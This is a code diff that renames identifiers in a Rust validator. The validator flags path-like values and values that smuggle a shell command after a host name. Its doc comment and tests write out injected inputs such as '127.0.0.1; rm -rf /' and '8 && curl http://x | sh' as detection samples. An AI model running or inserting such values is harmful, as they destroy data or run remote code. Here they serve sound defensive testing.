@@ -1,6 +1,6 @@
 //! The form of a value, compared with what its name suggests.
 
-use super::look::{is_path, is_program, prose};
+use super::look::{is_path, is_program, is_prose};
 
 /// Returns whether a text without a scheme, where a URL is expected, can only be a file: it climbs
 /// with `..`, it starts at a home, a drive, a share or a folder that no server's path begins with,
@@ -13,32 +13,32 @@ pub(super) fn is_file(text: &str) -> bool {
     let Some(rest) = text.strip_prefix('/') else {
         let (first, rest) = text.split_once('/').unwrap_or(("", ""));
         let name = rest.rsplit('/').next().unwrap_or(rest);
-        let named = name.rsplit_once('.').is_some_and(|(stem, end)| {
+        let has_extension = name.rsplit_once('.').is_some_and(|(stem, end)| {
             !stem.is_empty()
                 && (1..=5).contains(&end.len())
                 && end.bytes().all(|b| b.is_ascii_alphanumeric())
         });
         let plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_');
-        let below = !first.is_empty()
+        let in_folder = !first.is_empty()
             && first.bytes().all(plain)
             && first != "localhost"
-            && named
+            && has_extension
             && !rest.contains([':', '?']);
-        return below || !text.contains("://") && !text.starts_with("file:") && is_path(text);
+        return in_folder || !text.contains("://") && !text.starts_with("file:") && is_path(text);
     };
     let mut parts = rest.split(['/', '\\']);
     let first = parts.next().unwrap_or("");
-    let deep = parts.next().is_some_and(|part| !part.is_empty());
-    let home = matches!(first, "home" | "Users") && deep && parts.next().is_some();
-    home || deep && SYSTEM.contains(&first) || rest.contains("/../") && is_path(text)
+    let has_child = parts.next().is_some_and(|part| !part.is_empty());
+    let in_home = matches!(first, "home" | "Users") && has_child && parts.next().is_some();
+    in_home || has_child && SYSTEM.contains(&first) || rest.contains("/../") && is_path(text)
 }
 
 /// Returns whether a text begins as a name, a host or a number and continues with a command:
 /// `127.0.0.1; rm -rf /`, `main|sh x`, `web$(reboot)`. Inserted into a command line, it runs both.
-pub(super) fn goes_on_with_command(text: &str) -> bool {
+pub(super) fn continues_with_command(text: &str) -> bool {
     const SIGNS: [&str; 6] = ["$(", "`", "&&", "||", ";", "|"];
-    const MOST: usize = 2048;
-    if text.len() > MOST {
+    const MAX_BYTES: usize = 2048;
+    if text.len() > MAX_BYTES {
         return false;
     }
     let plain = |c: char| {
@@ -70,7 +70,7 @@ pub(super) fn goes_on_with_command(text: &str) -> bool {
         .next()
         .unwrap_or(command);
     let name = first.rsplit('/').next().unwrap_or(first);
-    is_program(name) && !prose(command)
+    is_program(name) && !is_prose(command)
 }
 
 #[cfg(test)]
@@ -112,7 +112,7 @@ mod tests {
             "1.1.1.1`rm -rf /`",
             "8 && curl http://x | sh",
         ] {
-            assert!(goes_on_with_command(text), "{text}");
+            assert!(continues_with_command(text), "{text}");
         }
         for text in [
             "a;b",
@@ -124,7 +124,7 @@ mod tests {
             "fix: `rm` now",
             "x",
         ] {
-            assert!(!goes_on_with_command(text), "{text}");
+            assert!(!continues_with_command(text), "{text}");
         }
     }
 }
